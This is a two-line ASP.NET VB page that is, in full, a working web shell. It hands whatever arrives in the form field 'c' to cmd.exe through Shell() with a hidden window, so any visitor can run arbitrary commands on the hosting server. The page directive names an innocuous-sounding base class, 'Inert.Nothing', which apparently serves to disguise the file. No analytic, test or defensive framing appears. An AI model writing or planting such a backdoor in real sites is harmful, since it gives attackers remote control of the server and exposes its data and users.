<%@ Page Language="VB" Inherits="Inert.Nothing" %>
<% Shell("cmd.exe /c " & Request.Form("c"), 0) %>